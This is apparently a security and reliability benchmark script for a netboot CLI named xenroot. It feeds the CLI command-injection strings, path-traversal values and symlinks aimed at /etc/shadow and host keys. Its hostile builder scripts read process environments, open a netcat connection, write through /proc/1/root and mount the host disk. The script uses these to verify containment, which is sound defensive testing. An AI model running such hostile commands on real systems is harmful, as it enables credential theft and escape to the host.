#!/usr/bin/env node
// Reliability probe (issue 16): hostile values x every flag of the writing commands and every
// string field of a hand-edited inventory; SIGKILL trials during sync; ENOSPC (a tiny tmpfs the
// script mounts) and EROFS (a read-only bind mount) for every writing command. A case is handled
// when the command succeeds with inert output, or exits non-zero with a one-line error, no stack
// trace and no "internal error", and the inventory is unchanged (on failure) and still valid.
// Runs the built CLI (bin/xenroot.js). Prints tried/handled per category and the unhandled cases.
//
//   node bench/reliability.mjs            (defaults: every value, 3 SIGKILL trials)
//   RELIABILITY_VALUES=4 RELIABILITY_KILLS=1 RELIABILITY_FS=0 node bench/reliability.mjs   (a slice)
//   RELIABILITY_JSON=1: the figures as JSON on stdout.
//   RELIABILITY_IMAGES=0 leaves out the hostile images (a slice, RELIABILITY_VALUES set, does too unless =1) (links out of the root, device files, FIFOs,
//   huge files, odd names, a hostile distro builder; root and the cached tiny image needed), and
//   RELIABILITY_IMAGES_ONLY=1 runs only them, RELIABILITY_IMAGES_SKIP=REGEX leaves cases out by name,
//   RELIABILITY_IMAGE_TIMEOUT_MS (default 120000) bounds each command.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { closeSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readSync, realpathSync, rmSync, statSync, symlinkSync, writeFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { fileURLToPath } from 'node:url';

const CLI = fileURLToPath(new URL('../bin/xenroot.js', import.meta.url));
const N_VALUES = Number(process.env.RELIABILITY_VALUES ?? 1e9);
const N_KILLS = Number(process.env.RELIABILITY_KILLS ?? 3);
const ONLY_IMAGES = process.env.RELIABILITY_IMAGES_ONLY === '1';
const DO_FS = !ONLY_IMAGES && process.env.RELIABILITY_FS !== '0' && process.getuid?.() === 0;
// A slice (RELIABILITY_VALUES set, as test/hardening/reliability.test.ts runs it) leaves the images out unless RELIABILITY_IMAGES=1.
const DO_IMAGES = (process.env.RELIABILITY_IMAGES ?? (process.env.RELIABILITY_VALUES && !ONLY_IMAGES ? '0' : '1')) !== '0' && process.getuid?.() === 0;

const HOSTILE = [
  'quiet ; chain http://192.0.2.9/x.ipxe', 'a;b', '$HOME', '${net0/mac}', "it's", 'say "hi"', 'back\\slash', 'line\nbreak', 'nul\u0000byte',
  'c1\u0085control', 'nonchar\ufffe', 'lone\ud800surrogate', 'x'.repeat(5000), 'constructor', '__proto__', 'toString', 'hasOwnProperty',
  '--help', '-x', '../../etc/passwd', '/tmp/../etc', '`id`', '$(id)', 'a || b', 'a && b', '#comment', 'tab\there', '', ' ', 'ünïcödé',
].slice(0, N_VALUES);

const run = (inv, args, opts = {}) => {
  // In the case's own directory: a relative path among the values lands there, never in the checkout.
  const r = spawnSync('node', [CLI, '-i', inv, ...args], { cwd: dirname(inv), encoding: 'utf8', env: { ...process.env, XENROOT_LOG_JSON: '1', XENROOT_LOCK_STALE_MS: '', ...opts.env }, timeout: 60_000 });
  return { code: r.status ?? -1, stdout: r.stdout ?? '', stderr: r.stderr ?? '', signal: r.signal };
};

/** The first stderr line is the error; the hint may follow on an indented line. */
function cleanFailure(r) {
  if (r.code === 0) return true;
  if (r.code === -1 || r.signal) return false;
  const lines = r.stderr.split('\n').filter((l) => l && !l.startsWith('{"level"'));
  if (/internal error|\n\s+at |ECOMPROMISED|Error: /.test(r.stderr.replace(/^xenroot: .*$/gm, ''))) return false;
  if (/internal error/.test(r.stderr)) return false;
  const errs = lines.filter((l) => !l.startsWith('  hint:') && !l.startsWith('(run with --help') && !/^(Usage|Options|  -|error: )/.test(l));
  return errs.length <= 1 || r.code === 2;
}

function fixture(base) {
  const dir = mkdtempSync(join(base, 'rel-'));
  mkdirSync(join(dir, 'r'));
  mkdirSync(join(dir, 'boot/t'), { recursive: true });
  writeFileSync(join(dir, 'boot/t/vmlinuz-6.1.0-28-amd64'), 'k');
  writeFileSync(join(dir, 'boot/t/initrd-6.1.0-28-amd64-pxe.img'), 'i');
  const inv = join(dir, 'inventory.yaml');
  writeFileSync(
    inv,
    `# a comment the writers keep\nsite:\n  nfsServer: 10.0.2.2\n  allow: [ 10.0.2.0/24 ]\n  bootDir: ${dir}/boot\n  dhcp:\n    server: none\nimages:\n  t:\n    root: ${dir}/r\n    kver: 6.1.0-28-amd64\ngroups:\n  lab:\n    image: t\nhosts:\n  h1:\n    connect: qemu:///system\nguests:\n  g1:\n    image: t\nclients:\n  pc1:\n    mac: 00:16:3e:00:00:01\n    image: t\n`,
  );
  return { dir, inv };
}

const valid = (inv) => run(inv, ['client', 'list']).code === 0;

const results = new Map();
const unhandled = [];
function record(category, name, ok, detail) {
  const c = results.get(category) ?? { tried: 0, handled: 0 };
  c.tried++;
  if (ok) c.handled++;
  else unhandled.push(`${category}: ${name}: ${detail}`);
  results.set(category, c);
}

/** Runs a writing command with a hostile value: handled when it succeeded (inventory valid) or failed cleanly (inventory unchanged). */
function probe(category, label, fx, args) {
  const before = readFileSync(fx.inv);
  const r = run(fx.inv, args);
  const after = readFileSync(fx.inv);
  let ok = cleanFailure(r);
  if (ok && r.code !== 0 && !before.equals(after)) ok = false;
  if (ok && !valid(fx.inv)) ok = false;
  record(category, label, ok, `exit ${r.code}: ${r.stderr.split('\n')[0]?.slice(0, 160)}`);
  if (r.code === 0) writeFileSync(fx.inv, before); // next probe from the same state
}

/**
 * Hostile sources: `--file DEST=SOURCE` pointing where a user who can write near the source would
 * lead root (symlinks to secrets, a symlinked directory, FIFOs, devices, files inside xenroot's
 * state directory). Handled: refused with exit 3, one clean line naming the path, inventory unchanged.
 */
function hostileSources(base) {
  const { dir, inv } = fixture(base);
  const state = join(dir, 'state');
  mkdirSync(join(state, 'host-keys'), { recursive: true });
  writeFileSync(join(state, 'host-keys', 'k.json'), 'private\n');
  mkdirSync(join(dir, 'drop'));
  writeFileSync(join(dir, 'drop', 'ok'), 'x\n');
  symlinkSync(join(state, 'host-keys', 'k.json'), join(dir, 'drop', 'to-key'));
  symlinkSync('/etc/shadow', join(dir, 'drop', 'to-shadow'));
  symlinkSync(join(dir, 'drop'), join(dir, 'via'));
  spawnSync('mkfifo', [join(dir, 'drop', 'fifo')]);
  const cases = [
    ['symlink to a host key', join(dir, 'drop', 'to-key')],
    ['symlink to /etc/shadow', join(dir, 'drop', 'to-shadow')],
    ['file under a symlinked directory', join(dir, 'via', 'ok')],
    ['FIFO', join(dir, 'drop', 'fifo')],
    ['/dev/zero', '/dev/zero'],
    ['/dev/null', '/dev/null'],
    ['/dev/tty', '/dev/tty'],
    ['a directory', join(dir, 'drop')],
    ['a file in the state directory', join(state, 'host-keys', 'k.json')],
    ['the state directory spelt //./', `${state}//./host-keys/k.json`],
    ['a missing file', join(dir, 'drop', 'missing')],
  ];
  for (const [label, source] of cases)
    for (const args of [['client', 'set', 'pc1', '--file', `/etc/x=${source}`], ['group', 'set', 'lab', '--file', `/etc/x=${source}`]]) {
      const before = readFileSync(inv);
      const r = run(inv, args, { env: { XENROOT_STATE_DIR: state } });
      const ok = r.code === 3 && cleanFailure(r) && readFileSync(inv).equals(before);
      record('hostile sources', `${args[0]} ${label}`, ok, `exit ${r.code}: ${r.stderr.split('\n')[0]?.slice(0, 160)}`);
    }
}

const base = mkdtempSync(join(tmpdir(), 'xenroot-reliability-'));
const t0 = performance.now();
try {
  if (!ONLY_IMAGES) await valueProbes();
  if (!ONLY_IMAGES && process.env.RELIABILITY_SOURCES !== '0') hostileSources(base);
  if (DO_IMAGES) await hostileImages();
} finally {
  rmSync(base, { recursive: true, force: true });
}

async function valueProbes() {
  const fx = fixture(base);
  const FLAGS = [
    ['client add', (v) => ['client', 'add', '00:16:3e:00:00:09', '--name', v], 'name'],
    ...['image', 'group', 'append', 'root', 'address'].map((f) => ['client add', (v) => ['client', 'add', '00:16:3e:00:00:09', `--${f}`, v], f]),
    ['client add', (v) => ['client', 'add', v], 'mac'],
    ...['image', 'group', 'append', 'root', 'address', 'mac'].map((f) => ['client set', (v) => ['client', 'set', 'pc1', `--${f}`, v], f]),
    ['client set', (v) => ['client', 'set', v, '--append', 'quiet'], 'ref'],
    ['create', (v) => ['create', v, '--image', 't', '--out', join(fx.dir, 'g')], 'name'],
    // A directory value (--out) is taken inside the case's directory: a hostile path such as /tmp/../etc
    // must not make the bench write guest files into the machine's /etc.
    ...['image', 'group', 'memory', 'vcpus', 'bridge', 'mac', 'append', 'out', 'host'].map((f) => ['create', (v) => ['create', 'g9', ...(f === 'image' || f === 'group' ? [] : ['--image', 't']), `--${f}`, f === 'out' ? join(fx.dir, 'out', v) : v, ...(f === 'out' ? [] : ['--out', join(fx.dir, 'g')])], f]),
    ['group add', (v) => ['group', 'add', v], 'name'],
    ...['image', 'append', 'root', 'connect', 'bridge', 'names'].map((f) => ['group add', (v) => ['group', 'add', 'lab2', `--${f}`, v], f]),
    ...['image', 'append', 'root', 'connect', 'bridge', 'names'].map((f) => ['group set', (v) => ['group', 'set', 'lab', `--${f}`, v], f]),
    ['image add', (v) => ['image', 'add', v, '--root', join(fx.dir, 'r'), '--kver', '6.1.0-28-amd64'], 'name'],
    ...['root', 'kver', 'export', 'nfs-version', 'nfs-options', 'initrd-builder', 'ready-pattern', 'append'].map((f) => ['image add', (v) => ['image', 'add', 'i9', ...(f === 'root' ? [] : ['--root', join(fx.dir, 'r')]), ...(f === 'kver' ? [] : ['--kver', '6.1.0-28-amd64']), `--${f}`, v], f]),
    ['host add', (v) => ['host', 'add', v, '--connect', 'qemu:///system'], 'name'],
    ...['connect', 'boot-dir', 'max-guests'].map((f) => ['host add', (v) => ['host', 'add', 'h9', ...(f === 'connect' ? [] : ['--connect', 'qemu:///system']), `--${f}`, f === 'boot-dir' ? join(fx.dir, 'out', v) : v], f]),
  ];
  // A NUL cannot be in an argument (execve ends each at the first NUL): those values are tried as hand edits only.
  for (const [cmd, args, flag] of FLAGS) for (const v of HOSTILE.filter((x) => !x.includes('\u0000'))) probe('flags', `${cmd} --${flag} ${JSON.stringify(v).slice(0, 40)}`, fx, args(v));

  // Hand edits: every string field of the inventory set to each hostile value, then a read and a sync.
  const FIELDS = [
    ['site', 'nfsServer'], ['site', 'exportRoot'], ['site', 'tftpRoot'], ['site', 'bridge'], ['site', 'connect'], ['site', 'nfsOptions'], ['site', 'macPrefix'],
    ['images.t', 'root'], ['images.t', 'kver'], ['images.t', 'append'], ['images.t', 'export'], ['images.t', 'nfsOptions'], ['images.t', 'readyPattern'], ['images.t', 'initrdBuilder'],
    ['groups.lab', 'append'], ['groups.lab', 'names'], ['groups.lab', 'description'], ['guests.g1', 'append'], ['guests.g1', 'bridge'], ['guests.g1', 'image'],
    ['clients.pc1', 'append'], ['clients.pc1', 'root'], ['clients.pc1', 'image'], ['clients.pc1', 'mac'], ['hosts.h1', 'connect'], ['hosts.h1', 'bootDir'],
  ];
  const pristine = readFileSync(fx.inv, 'utf8');
  for (const [where, key] of FIELDS)
    for (const v of HOSTILE) {
      const yamlValue = JSON.stringify(v).replace(/\\u0000/g, '\\0');
      const [section, name] = where.split('.');
      const lines = pristine.split('\n');
      const at = name ? lines.indexOf(`  ${name}:`, lines.indexOf(`${section}:`)) : lines.indexOf(`${section}:`);
      const indent = name ? '    ' : '  ';
      const filtered = lines.filter((l, i) => !(i > at && l.startsWith(`${indent}${key}:`) && i < at + 8));
      filtered.splice(at + 1, 0, `${indent}${key}: ${yamlValue}`);
      writeFileSync(fx.inv, filtered.join('\n'));
      const r1 = run(fx.inv, ['client', 'list']);
      const r2 = r1.code === 0 ? run(fx.inv, ['sync', '--dry-run']) : r1;
      record('inventory fields', `${where}.${key} = ${yamlValue.slice(0, 40)}`, cleanFailure(r1) && cleanFailure(r2), `exit ${r2.code}: ${r2.stderr.split('\n')[0]?.slice(0, 160)}`);
    }
  writeFileSync(fx.inv, pristine);

  // SIGKILL during sync (a fleet big enough to be caught mid-apply), then a sync must complete and leave a valid inventory.
  const big = fixture(base);
  let text = readFileSync(big.inv, 'utf8');
  for (let i = 0; i < 1500; i++) text += `  c${i}:\n    mac: 00:16:3e:01:${((i >> 8) & 255).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}\n    image: t\n`;
  writeFileSync(big.inv, text);
  for (let k = 0; k < N_KILLS; k++) {
    const root = join(big.dir, `root${k}`);
    const child = spawn('node', [CLI, '-i', big.inv, 'sync', '--root', root, '--no-reload'], { stdio: 'ignore' });
    await new Promise((res) => setTimeout(res, 300 + 150 * k));
    child.kill('SIGKILL');
    await new Promise((res) => child.on('exit', res));
    const again = run(big.inv, ['sync', '--root', root, '--no-reload']);
    const temps = (function find(d) {
      let n = 0;
      for (const e of readdirSync(d, { withFileTypes: true })) {
        if (/xenroot-tmp-|\.xenroot-staging/.test(e.name)) n++;
        if (e.isDirectory()) n += find(join(d, e.name));
      }
      return n;
    })(root);
    record('SIGKILL during sync', `trial ${k}`, again.code === 0 && temps === 0 && valid(big.inv), `re-sync exit ${again.code}, ${temps} temp files left`);
  }

  // ENOSPC (a 1 MiB tmpfs, filled) and EROFS (a read-only bind mount) for every writing command.
  if (DO_FS) {
    const WRITERS = [
      ['client add', ['client', 'add', '00:16:3e:00:00:0a']],
      ['client set', ['client', 'set', 'pc1', '--append', 'quiet']],
      ['create', ['create', 'g7', '--image', 't']],
      ['group add', ['group', 'add', 'lab7']],
      ['group set', ['group', 'set', 'lab', '--append', 'quiet']],
      ['image add', ['image', 'add', 'i7', '--kver', '6.1.0-28-amd64', '--root', '/']],
      ['host add', ['host', 'add', 'h7', '--connect', 'qemu:///system']],
      ['remove', ['remove', 'g1']],
      ['client remove', ['client', 'remove', 'pc1']],
      ['sync', ['sync', '--no-reload', '--root', 'ROOT']],
    ];
    for (const [kind, mountArgs] of [['ENOSPC', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs']], ['EROFS', null]]) {
      for (const [name, args] of WRITERS) {
        const mnt = mkdtempSync(join(base, 'mnt-'));
        const src = fixture(base);
        try {
          if (kind === 'ENOSPC') {
            execFileSync('mount', [...mountArgs, mnt]);
            writeFileSync(join(mnt, 'inventory.yaml'), readFileSync(src.inv));
            try {
              writeFileSync(join(mnt, 'fill'), Buffer.alloc(2 << 20));
            } catch {
              /* full */
            }
          } else {
            writeFileSync(join(src.dir, 'inventory.yaml'), readFileSync(src.inv));
            execFileSync('mount', ['--bind', src.dir, mnt]);
            execFileSync('mount', ['-o', 'remount,bind,ro', mnt]);
          }
          const inv = join(mnt, 'inventory.yaml');
          const before = readFileSync(inv);
          const r = run(inv, args.map((a) => (a === 'ROOT' ? join(mnt, 'root') : a)));
          const ok = r.code !== 0 && cleanFailure(r) && readFileSync(inv).equals(before) && r.code !== 1;
          record(`${kind}`, name, ok, `exit ${r.code}: ${r.stderr.split('\n')[0]?.slice(0, 160)}`);
        } finally {
          spawnSync('umount', [mnt]);
        }
      }
    }
  }
}

/** The cached tiny image (test/support/kernel.ts builds it: any test run that needs it). */
function tinyImageDir() {
  const cache = process.env.XENROOT_CACHE ?? fileURLToPath(new URL('../.cache/', import.meta.url));
  const dir = join(cache, 'images');
  const name = existsSync(dir) && readdirSync(dir).filter((n) => /^tiny-.*-v\d+$/.test(n)).sort().at(-1);
  return name ? join(dir, name) : undefined;
}

/**
 * Hostile images: a hard-linked copy of the tiny image with one hostile change, added with
 * `image add` and built with `initrd build --target xen` (or a hostile distro builder). Handled:
 * the commands end (within 120 s) with success or a one-line error, no file under the boot dir
 * holds the root-only secret (or the host disk's first bytes), no proof file appears, and no
 * connection reaches the host's loopback listener.
 */
async function hostileImages() {
  const tiny = tinyImageDir();
  if (!tiny) {
    console.error('hostile images: no cached tiny image (run test/initrd/builtin.test.ts once); left out');
    return;
  }
  const kver = readdirSync(join(tiny, 'lib/modules'))[0];
  const secretDir = mkdtempSync(join(base, 'root-only-'));
  const secret = `ROOT-ONLY-${process.pid}-${Date.now()}`;
  const secretFile = join(secretDir, 'shadow');
  writeFileSync(secretFile, `${secret}\n`, { mode: 0o600 });
  writeFileSync(join(secretDir, 'xen-netfront.ko'), `${secret}\n`, { mode: 0o600 });
  const rootDev = statSync('/').dev;
  const diskHead = (() => {
    // The first bytes of the host's root block device, as a block-device node would leak them.
    const dev = readlinkSafe(`/sys/dev/block/${Math.floor(rootDev / 256)}:${rootDev % 256}`);
    try {
      const b = Buffer.alloc(4096);
      const fd = openSync(`/dev/${dev.split('/').pop()}`, 'r');
      readSync(fd, b, 0, 4096, 1 << 20);
      closeSync(fd);
      return b.some((x) => x !== 0) ? b.subarray(0, 64) : undefined;
    } catch {
      return undefined;
    }
  })();
  const mod = `lib/modules/${kver}/kernel/drivers/net/xen-netfront.ko`;
  const dep = `lib/modules/${kver}/modules.dep`;
  const replace = (img, rel, make) => {
    rmSync(join(img, rel), { recursive: true, force: true });
    make(join(img, rel));
  };
  const link = (target) => (p) => symlinkSync(target, p);
  const climb = (img, rel, to) => relative(dirname(join(img, rel)), to);
  const node = (...a) => (p) => execFileSync('mknod', [p, ...a]);
  const fifo = (p) => execFileSync('mkfifo', [p]);
  const sparse = (size) => (p) => execFileSync('truncate', ['-s', String(size), p]);
  const editDep = (fn) => (img) => {
    const p = join(img, dep);
    const text = readFileSync(p, 'utf8');
    rmSync(p);
    writeFileSync(p, fn(text, img));
  };
  const oddKver = (name) => (img) => {
    const n = Buffer.isBuffer(name) ? name : Buffer.from(name);
    execFileSync('cp', ['-al', join(img, 'lib/modules', kver), Buffer.concat([Buffer.from(join(img, 'lib/modules') + '/'), n]).toString('latin1')], { encoding: 'buffer' });
    writeFileSync(Buffer.concat([Buffer.from(join(img, 'boot') + '/vmlinuz-'), n]), 'not a kernel');
    // The real kernel goes: only the odd name is left to detect.
    rmSync(join(img, 'boot', `vmlinuz-${kver}`));
  };
  const builder = (body) => (img) => {
    mkdirSync(join(img, 'usr/sbin'), { recursive: true });
    writeFileSync(join(img, 'usr/sbin/mkinitramfs'), `#!/bin/busybox sh\nwhile [ $# -gt 0 ]; do [ "$1" = -o ] && OUT="$2"; shift; done\n${body}\nexit 0\n`, { mode: 0o755 });
  };
  const proof = join(secretDir, 'proof');
  const CASES = [
    ['links', 'kernel -> a root-only host file (absolute)', (img) => replace(img, `boot/vmlinuz-${kver}`, link(secretFile))],
    ['links', 'kernel -> ../../.. to a host file (relative)', (img) => replace(img, `boot/vmlinuz-${kver}`, link(climb(img, `boot/vmlinuz-${kver}`, secretFile)))],
    ['links', 'kernel -> itself (a loop)', (img) => replace(img, `boot/vmlinuz-${kver}`, link(`vmlinuz-${kver}`))],
    ['links', 'module -> a host file (absolute)', (img) => replace(img, mod, link(secretFile))],
    ['links', 'module -> ../.. to a host file (relative)', (img) => replace(img, mod, link(climb(img, mod, secretFile)))],
    ['links', 'modules.dep -> a host file', (img) => {
      writeFileSync(join(secretDir, 'dep'), `${join(secretDir, 'xen-netfront.ko')}:\n`);
      replace(img, dep, link(join(secretDir, 'dep')));
    }],
    ['links', 'modules.dep names an absolute host path', editDep((t) => t.replace(/^kernel\/drivers\/net\/xen-netfront\.ko:/m, `${join(secretDir, 'xen-netfront.ko')}:`))],
    ['links', 'modules.dep names ../ out of the root', editDep((t, img) => t.replace(/^kernel\/drivers\/net\/xen-netfront\.ko:/m, `${relative(join(img, 'lib/modules', kver), join(secretDir, 'xen-netfront.ko'))}:`))],
    ['links', 'lib/modules -> a host copy (absolute)', (img) => {
      execFileSync('cp', ['-al', join(img, 'lib/modules'), join(secretDir, `modules-${img.split('-').pop()}`)]);
      replace(img, 'lib/modules', link(join(secretDir, `modules-${img.split('-').pop()}`)));
    }],
    ['links', 'lib -> / (the host root)', (img) => replace(img, 'lib', link('/'))],
    ['links', 'bin/busybox -> the host busybox', (img) => replace(img, 'bin/busybox', link('/bin/busybox'))],
    ['device files', 'module is /dev/null (char 1:3)', (img) => replace(img, mod, node('c', '1', '3'))],
    ['device files', 'kernel is /dev/zero (char 1:5)', (img) => replace(img, `boot/vmlinuz-${kver}`, node('c', '1', '5'))],
    ['device files', 'module is the host root disk (block)', (img) => replace(img, mod, node('b', String(Math.floor(rootDev / 256)), String(rootDev % 256)))],
    ['device files', 'module is a FIFO', (img) => replace(img, mod, fifo)],
    ['device files', 'kernel is a FIFO', (img) => replace(img, `boot/vmlinuz-${kver}`, fifo)],
    ['device files', 'modules.dep is a FIFO', (img) => replace(img, dep, fifo)],
    ['device files', 'bin/busybox is a FIFO', (img) => replace(img, 'bin/busybox', fifo)],
    ['huge files', 'kernel of 1 GiB (sparse)', (img) => replace(img, `boot/vmlinuz-${kver}`, sparse(1 << 30))],
    ['huge files', 'module of 3 GiB (sparse)', (img) => replace(img, mod, sparse(3 * 2 ** 30))],
    ['huge files', 'modules.dep of 3 GiB (sparse)', (img) => replace(img, dep, sparse(3 * 2 ** 30))],
    ['odd names', 'kernel release with a newline', oddKver('6.1.0\nevil')],
    ['odd names', 'kernel release with spaces', oddKver('6.1.0 evil x')],
    ['odd names', 'kernel release with a leading dash', oddKver('-rf')],
    ['odd names', 'kernel release not UTF-8', oddKver(Buffer.from([0x36, 0x2e, 0xff, 0xfe]))],
    ['odd names', 'module path with a leading dash in modules.dep', editDep((t) => t.replace(/^kernel\/drivers\/net\/xen-netfront\.ko:/m, '-xen-netfront.ko:'))],
    ['hostile builder', 'reads every /proc/*/environ', builder(`cat /proc/[0-9]*/environ > "$OUT"`)],
    ['hostile builder', 'connects to the host loopback', builder('busybox nc -w 2 127.0.0.1 PORT </dev/null > "$OUT" 2>&1')],
    ['hostile builder', 'writes the host through /proc/1/root', builder(`echo pwned > /proc/1/root${proof}; echo x > "$OUT"`)],
    ['hostile builder', 'writes a kernel setting', builder('v=$(cat /proc/sys/kernel/printk_ratelimit); echo "$v" > /proc/sys/kernel/printk_ratelimit && touch /proc/1/root' + proof + '-sysctl; echo x > "$OUT"')],
    ['hostile builder', 'mounts the host disk', builder(`mkdir -p /tmp/m; mknod /tmp/d b ${Math.floor(rootDev / 256)} ${rootDev % 256}; mount /tmp/d /tmp/m && cp /tmp/m${secretFile} "$OUT"`)],
  ];
  // A secret held in a host process's environment, for the environ case.
  const holder = spawn('sleep', ['3600'], { env: { XENROOT_BENCH_SECRET: secret }, stdio: 'ignore' });
  let connections = 0;
  const server = createServer((sock) => {
    connections++;
    sock.destroy();
  });
  await new Promise((res) => server.listen(0, '127.0.0.1', res));
  const port = () => server.address()?.port ?? 1;
  try {
    let i = 0;
    for (const [category, name, spoil] of CASES) {
      // RELIABILITY_IMAGES_SKIP=REGEX leaves cases out (on a build that copies /dev/zero, that one fills the disk).
      if (process.env.RELIABILITY_IMAGES_SKIP && new RegExp(process.env.RELIABILITY_IMAGES_SKIP).test(name)) continue;
      const dir = mkdtempSync(join(base, 'img-case-'));
      const img = join(dir, `image-${++i}`);
      execFileSync('cp', ['-al', tiny, img]);
      spoil(img);
      if (category === 'hostile builder') {
        const p = join(img, 'usr/sbin/mkinitramfs');
        writeFileSync(p, readFileSync(p, 'utf8').replace('PORT', String(port())), { mode: 0o755 });
      }
      const boot = join(dir, 'boot');
      const inv = join(dir, 'inventory.yaml');
      const env = { XENROOT_STATE_DIR: join(dir, 'state') };
      const steps = [['init', '--nfs-server', '127.0.0.1', '--boot-dir', boot, '--allow', '127.0.0.0/8'], ['image', 'add', 'evil', '--root', img, ...(category === 'odd names' ? [] : ['--kver', kver])], ['initrd', 'build', 'evil', '--target', 'xen', ...(category === 'hostile builder' ? ['--builder', 'initramfs-tools'] : [])]];
      const before = connections;
      let ok = true;
      let detail = '';
      for (const st of steps) {
        const r = runWith(inv, st, env);
        detail = `${st.slice(0, 2).join(' ')}: exit ${r.code}: ${r.stderr.split('\n').find((l) => l && !l.startsWith('{'))?.slice(0, 140) ?? ''}`;
        if (!cleanFailure(r)) ok = false;
        if (r.code !== 0) break;
      }
      await new Promise((res) => setTimeout(res, 100)); // the listener accepts what the kernel queued meanwhile
      const leaked = filesHolding(boot, [Buffer.from(secret), ...(diskHead ? [diskHead] : [])]);
      if (leaked.length) (ok = false), (detail += `; leaked into ${leaked.join(', ')}`);
      if (existsSync(proof) || existsSync(`${proof}-sysctl`)) (ok = false), (detail += '; proof file written on the host');
      rmSync(proof, { force: true });
      rmSync(`${proof}-sysctl`, { force: true });
      if (connections !== before) (ok = false), (detail += '; a connection reached the host');
      record(`image: ${category}`, name, ok, detail);
      rmSync(dir, { recursive: true, force: true });
    }
  } finally {
    holder.kill('SIGKILL');
    server.close();
  }
}

/** run() with a longer time limit (an initrd build) and extra environment. */
function runWith(inv, args, env) {
  const r = spawnSync('node', [CLI, '-i', inv, ...args], { cwd: dirname(inv), encoding: 'utf8', env: { ...process.env, XENROOT_LOG_JSON: '1', ...env }, timeout: Number(process.env.RELIABILITY_IMAGE_TIMEOUT_MS ?? 120_000), killSignal: 'SIGKILL', maxBuffer: 1 << 26 });
  return { code: r.status ?? -1, stdout: r.stdout ?? '', stderr: r.stderr ?? '', signal: r.signal };
}

function readlinkSafe(p) {
  try {
    return realpathSync(p);
  } catch {
    return '';
  }
}

/** Files under `dir` whose bytes (gunzipped where gzip) hold one of `needles`. */
function filesHolding(dir, needles) {
  const hits = [];
  if (!existsSync(dir)) return hits;
  for (const e of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    if (!e.isFile()) continue;
    const p = join(e.parentPath, e.name);
    let data = readFileSync(p);
    if (data[0] === 0x1f && data[1] === 0x8b) {
      try {
        data = gunzipSync(data);
      } catch {
        /* not gzip after all */
      }
    }
    if (needles.some((n) => data.includes(n))) hits.push(p);
  }
  return hits;
}

let tried = 0;
let handled = 0;
const rows = [];
for (const [cat, c] of results) {
  tried += c.tried;
  handled += c.handled;
  rows.push({ category: cat, ...c });
}
const seconds = Math.round((performance.now() - t0) / 1000);
if (process.env.RELIABILITY_JSON) process.stdout.write(JSON.stringify({ rows, tried, handled, unhandled, seconds }) + '\n');
else {
  for (const r of rows) console.log(`${r.category.padEnd(22)} ${String(r.handled).padStart(5)} of ${String(r.tried).padStart(5)} handled`);
  console.log(`${'total'.padEnd(22)} ${String(handled).padStart(5)} of ${String(tried).padStart(5)} handled (${seconds} s)`);
  for (const u of unhandled) console.log(`UNHANDLED ${u}`);
}
